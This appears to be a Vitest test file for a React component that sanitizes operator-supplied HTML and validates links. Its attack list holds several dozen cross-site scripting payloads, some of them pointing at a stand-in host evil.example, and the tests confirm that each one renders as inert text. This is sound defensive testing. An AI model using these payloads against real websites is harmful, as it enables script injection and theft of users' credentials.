// @vitest-environment happy-dom
import { renderToStaticMarkup } from 'react-dom/server';
import { MemoryRouter } from 'react-router';
import { describe, expect, it } from 'vitest';
import { Html, longestHtml, wordsOfHtml } from './Html.tsx';
import { linkOf } from './links.ts';

function drawn(content: string, language?: string): HTMLElement {
  const box = document.createElement('div');
  box.innerHTML = renderToStaticMarkup(
    <MemoryRouter>
      <Html content={content} language={language} />
    </MemoryRouter>,
  );
  return box;
}

/** What people have tried to smuggle into texts: each must end as harmless text or as nothing. */
const attacks = [
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=steal()>',
  '<img src="javascript:steal()">',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  '<IMG """><SCRIPT>steal()</SCRIPT>">',
  '<svg onload=steal()><script>steal()</script></svg>',
  '<svg><animate onbegin=steal() attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,x#a"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<a href="javascript:steal()">a</a>',
  '<a href="JaVaScRiPt&#58;steal()">a</a>',
  '<a href="java\tscript:steal()">a</a>',
  '<a href=" \u0001javascript:steal()">a</a>',
  '<a href="vbscript:steal()">a</a>',
  '<a href="data:text/html,<script>steal()</script>">a</a>',
  '<a href="//evil.example/">a</a>',
  '<a href="/\\evil.example/">a</a>',
  '<a href="http://evil.example/">a</a>',
  '<a href="blob:http://localhost:3000/1">a</a>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:steal()">go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=prefetch href=//evil.example/x.css>',
  '<style>@import url(//evil.example/x.css)</style>',
  '<div style="background:url(javascript:steal())">x</div>',
  '<p onclick=steal() onmouseover=steal() onfocus=steal() tabindex=1 autofocus id=main class=skip>x</p>',
  '<template><img src=x onerror=steal()></template>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  '<textarea><img src=x onerror=steal()></textarea>',
  '<video><source onerror=steal()></video><audio src=x onerror=steal()></audio>',
  '<details open ontoggle=steal()>x</details>',
  '<marquee onstart=steal()>x</marquee>',
  '<b><i onwheel=steal()><u><a href="javascript:steal()"><img src=x onerror=steal()></a></u></i></b>',
  '<x-y is="z" onclick=steal()>x</x-y>',
  '<!--<img src="--><img src=x onerror=steal()//">',
  '<![CDATA[<script>steal()</script>]]>',
  '<p>{{constructor.constructor("steal()")()}}</p>',
];

const allowed = new Set([
  'class',
  'href',
  'target',
  'rel',
  'src',
  'alt',
  'loading',
  'decoding',
  'lang',
  'dir',
  'colspan',
  'rowspan',
  'start',
]);
const forbidden =
  'script,style,iframe,object,embed,svg,math,form,input,button,textarea,link,meta,base,template,noscript,video,audio,source,details,marquee';

describe('HTML of the operator', () => {
  it.each(attacks)('runs nothing of %s', (attack) => {
    const box = drawn(attack);
    expect(box.querySelector(forbidden)).toBeNull();
    for (const node of box.querySelectorAll('*')) {
      for (const { name } of node.attributes) expect(allowed).toContain(name);
      for (const name of ['href', 'src']) {
        const address = node.getAttribute(name);
        if (address !== null) expect(address).toMatch(/^(\/(?![/\\])|https:\/\/|mailto:|tel:)/);
      }
    }
  });

  it('draws what may stand: bold, lists, tables, headings below the page’s own', () => {
    const box = drawn(
      '<h1>A</h1><p><b>bold</b> and <em>slow</em><br>next</p><ul> <li>one</li> </ul><table><tr><td colspan="2">x</td></tr></table>',
    );
    expect(box.querySelector('h1')).toBeNull();
    expect(box.querySelector('h2')?.textContent).toBe('A');
    expect(box.querySelector('b')?.textContent).toBe('bold');
    expect(box.querySelectorAll('li')).toHaveLength(1);
    expect(box.querySelector('td')?.getAttribute('colspan')).toBe('2');
  });

  it('leads inside the site without leaving it, and to others without telling them who opened them', () => {
    const [own, other] = drawn(
      '<a href="/help?article=x">own</a> <a href="https://example.com/a">other</a>',
    ).querySelectorAll('a');
    expect(own?.getAttribute('href')).toBe('/help?article=x');
    expect(own?.hasAttribute('target')).toBe(false);
    expect([other?.getAttribute('target'), other?.getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer']);
  });

  it('keeps the words of what may not stand, but not those of code', () => {
    const box = drawn('<blink>read <font color=red>this</font></blink><script>not this</script>');
    expect(box.textContent).toBe('read this');
    expect(wordsOfHtml('<p>one</p><p>two</p><style>three</style>')).toBe('one two');
  });

  it('stands a text of ten megabytes and one that is nested without end', () => {
    expect(drawn('word '.repeat(2_000_000)).textContent?.length).toBeLessThanOrEqual(longestHtml);
    expect(drawn(`${'<div>'.repeat(500)}deep`).textContent).not.toContain('deep');
  });
});

it('a text in another language than the page says in which, and runs its way', () => {
  const box = (language?: string) => drawn('<p>text</p>', language).firstElementChild;
  expect([box()?.getAttribute('lang'), box()?.getAttribute('dir')]).toEqual([null, null]);
  expect([box('EN')?.getAttribute('lang'), box('EN')?.getAttribute('dir')]).toEqual(['en', 'ltr']);
  expect([box('UR')?.getAttribute('lang'), box('UR')?.getAttribute('dir')]).toEqual(['ur', 'rtl']);
});

describe('a link from outside', () => {
  it.each([
    'javascript:steal()',
    'http://example.com',
    '//example.com',
    '/\\example.com',
    'page',
    '#top',
    '',
    'ftp://example.com',
    `/${'a'.repeat(3000)}`,
  ])('%s is none', (address) => expect(linkOf(address)).toBeUndefined());

  it('is a path of this site, https, mail or telephone', () => {
    expect(linkOf(' /live?x=1#y ')).toEqual({ kind: 'inside', href: '/live?x=1#y' });
    expect(linkOf('https://example.com/a')).toEqual({ kind: 'outside', href: 'https://example.com/a' });
    expect(linkOf('mailto:a@example.com')?.kind).toBe('mail');
  });
});
